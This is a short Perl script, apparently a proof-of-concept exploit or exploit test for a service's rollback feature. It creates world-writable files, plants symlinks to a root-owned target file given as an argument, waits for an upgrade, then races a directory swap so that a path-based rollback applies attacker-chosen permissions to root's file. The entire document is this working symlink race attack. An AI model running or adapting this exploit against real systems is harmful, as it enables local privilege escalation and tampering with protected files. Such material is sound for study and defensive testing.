# Changes the modes of files after the rollback data was saved, and exchanges their directory with one in which links to a file of root have
# their names. A rollback that sets the mode by path gives root's file the mode that the account chose.
use strict;
use warnings;
use Attack;

my ($target) = @ARGV;
my ($files, $links) = ('/etc/phoned/modes', '/etc/phoned/links');
directory($_) for $files, $links;
umask 0;
for my $name (1 .. 300) {
    write_file("$files/$name", "line $name\n");
    chmod 0666, "$files/$name" or die "$files/$name: $!\n";
    symlink $target, "$links/$name" or die "$links/$name: $!\n";
}
ready();
wait_for { upgraded() };
chmod 0600, glob "$files/*";
tried();
until (over()) {
    exchange($files, $links) for 1 .. 100;
}
